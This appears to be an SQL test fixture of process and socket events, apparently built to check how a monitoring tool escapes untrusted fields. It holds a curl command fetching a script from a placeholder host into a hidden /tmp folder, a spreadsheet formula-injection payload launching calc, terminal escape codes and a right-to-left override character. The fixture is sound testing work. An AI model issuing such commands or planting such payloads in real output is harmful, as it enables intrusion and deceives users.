CREATE TABLE process_events (pid BIGINT, path TEXT, cmdline TEXT, uid BIGINT, time BIGINT, time_ns BIGINT);
INSERT INTO process_events VALUES
  (4711, '/usr/bin/curl', 'curl -s http://203.0.113.9/a.sh -o /tmp/.x/a.sh', 33, 1772000000, 1772000000000000001),
  (4712, '/bin/sh', '=cmd|'' /C calc''!A0', 33, 1772000001, 1772000001000000001),
  (4713, '/tmp/' || char(27) || '[31mred', 'evil ' || char(8238) || 'reversed' || char(10) || 'next', 0, 1772000002, 9223372036854775807),
  (4714, '/usr/bin/日本語', 'echo 日本語', NULL, 1772000003, NULL);
CREATE TABLE socket_events (pid BIGINT, action TEXT, remote_address TEXT, remote_port INTEGER);
INSERT INTO socket_events VALUES (4711, 'connect', '203.0.113.9', 80), (4711, 'connect', '2001:db8::9', 443);
